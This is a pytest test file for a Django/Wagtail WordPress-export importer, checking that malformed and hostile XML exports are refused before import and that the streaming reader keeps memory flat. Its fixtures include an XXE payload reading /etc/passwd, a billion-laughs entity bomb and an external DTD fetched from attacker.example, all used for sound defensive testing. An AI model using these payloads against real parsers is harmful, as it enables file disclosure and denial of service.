"""Malformed and hostile exports are refused whole, with the line, before anything is imported."""

import io

import pytest
from django.core.management import CommandError, call_command
from wagtail.models import Page

from dateline.importer.models import ImportRecord
from dateline.importer.wxr import WXRError, read_wxr

from .conftest import SITE_EXPORT

pytestmark = pytest.mark.django_db

HEADER = '<rss version="2.0" xmlns:wp="http://wordpress.org/export/1.2/"><channel>'

XXE = f"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE rss [
  <!ENTITY secret SYSTEM "file:///etc/passwd">
]>
{HEADER}<item><title>&secret;</title><wp:post_type>post</wp:post_type></item></channel></rss>
"""

BILLION_LAUGHS = f"""<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
{HEADER}<item><title>&lol9;</title></item></channel></rss>
"""

EXTERNAL_DTD = f"""<?xml version="1.0"?>
<!DOCTYPE rss SYSTEM "http://attacker.example/evil.dtd">
{HEADER}<item><title>x</title></item></channel></rss>
"""


def refusal(tmp_path, content, name="export.xml"):
    path = tmp_path / name
    path.write_text(content)
    pages = Page.objects.count()
    with pytest.raises(CommandError) as error:
        call_command("import_wordpress", str(path), stdout=io.StringIO())
    assert error.value.returncode == 2
    assert Page.objects.count() == pages
    assert not ImportRecord.objects.exists()
    return str(error.value)


def test_external_entity_is_refused_naming_the_line(tmp_path):
    message = refusal(tmp_path, XXE)
    assert "line 2: refused: the file has a document type declaration (<!DOCTYPE>)" in message
    assert "root:" not in message


def test_billion_laughs_is_refused_before_any_expansion(tmp_path):
    message = refusal(tmp_path, BILLION_LAUGHS)
    assert "line 2: refused" in message and "exhaust memory" in message


def test_external_dtd_is_refused(tmp_path):
    message = refusal(tmp_path, EXTERNAL_DTD)
    assert "line 2: refused" in message


def test_truncated_export_imports_nothing(tmp_path):
    """The break is near the end: the posts before it are not imported either."""
    text = SITE_EXPORT.read_text()
    cut = text[: text.index("<title><![CDATA[About the Gazette]]>")]
    line = cut.count("\n") + 1
    message = refusal(tmp_path, cut + "<title>About</wrong>")
    assert f"line {line}" in message and "malformed XML (mismatched tag)" in message


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        ("", "line 1: malformed XML (no element found)"),
        ("<html><body>Not an export</body></html>", "not a WordPress export"),
        ('<?xml version="1.0"?>\n<rss>\n<item>&nbsp;</item>', "line 3: malformed XML"),
    ],
)
def test_other_bad_files(tmp_path, content, expected):
    assert expected in refusal(tmp_path, content)


def test_missing_file_and_uploads_folder(tmp_path):
    with pytest.raises(CommandError, match="no such file"):
        call_command("import_wordpress", str(tmp_path / "nope.xml"))
    with pytest.raises(CommandError, match="uploads folder does not exist"):
        call_command("import_wordpress", str(SITE_EXPORT), "--uploads", str(tmp_path / "none"))


def test_reader_keeps_memory_flat_by_dropping_each_item():
    """Each item is handed over once and then removed from the tree."""
    items = "".join(
        f"<item><title>Post {n}</title><wp:post_id>{n}</wp:post_id></item>" for n in range(300)
    )
    export = io.BytesIO(f"{HEADER}{items}</channel></rss>".encode())
    records = list(read_wxr(export))
    assert [r.wordpress_id for r in records[1:]] == [str(n) for n in range(300)]
    assert all(r.title == f"Post {n}" for n, r in enumerate(records[1:]))


def test_wxr_error_names_the_line():
    with pytest.raises(WXRError) as error:
        list(read_wxr(io.BytesIO(b"<rss>\n<channel>\n<item>\n</channel>")))
    assert error.value.line == 4


def test_wxr_1_1_reads_like_1_2():
    export = (
        b'<rss xmlns:wp="http://wordpress.org/export/1.1/" '
        b'xmlns:excerpt="http://wordpress.org/export/1.1/excerpt/"><channel>'
        b"<wp:wxr_version>1.1</wp:wxr_version><item><wp:post_id>7</wp:post_id>"
        b"<wp:post_type>post</wp:post_type><excerpt:encoded>Short</excerpt:encoded>"
        b"<wp:post_date_gmt>2011-02-03 04:05:06</wp:post_date_gmt></item></channel></rss>"
    )
    channel, item = read_wxr(io.BytesIO(export))
    assert channel.wxr_version == "1.1"
    assert (item.wordpress_id, item.post_type, item.excerpt) == ("7", "post", "Short")
    assert str(item.date_gmt) == "2011-02-03 04:05:06+00:00"


class GeneratedExport(io.RawIOBase):
    """An export of `count` posts of about 2 KB each, made as it is read, so the
    test measures the reader's memory and not the file's."""

    def __init__(self, count):
        self.parts = self._parts(count)
        self.pending = b""

    def _parts(self, count):
        yield HEADER.encode()
        body = "<p>" + "Harbour news in many words. " * 70 + "</p>"
        for n in range(count):
            yield (
                f"<item><title>Post {n}</title><wp:post_id>{n}</wp:post_id>"
                f"<content:encoded xmlns:content='http://purl.org/rss/1.0/modules/content/'>"
                f"<![CDATA[{body}]]></content:encoded></item>\n"
            ).encode()
        yield b"</channel></rss>"

    def readable(self):
        return True

    def readinto(self, buffer):
        while len(self.pending) < len(buffer):
            part = next(self.parts, None)
            if part is None:
                break
            self.pending += part
        size = min(len(buffer), len(self.pending))
        buffer[:size], self.pending = self.pending[:size], self.pending[size:]
        return size


def test_reader_memory_does_not_grow_with_the_export():
    import tracemalloc

    def peak_while_reading(count):
        tracemalloc.start()
        try:
            last = None
            for last in read_wxr(io.BufferedReader(GeneratedExport(count))):  # noqa: B007
                pass
            return tracemalloc.get_traced_memory()[1], last
        finally:
            tracemalloc.stop()

    small_peak, _ = peak_while_reading(200)
    large_peak, last = peak_while_reading(4000)  # about 8 MB of posts
    assert last.wordpress_id == "3999" and len(last.content) > 1900
    assert large_peak < small_peak * 1.5 + 256 * 1024, (small_peak, large_peak)
    assert large_peak < 2 * 1024 * 1024
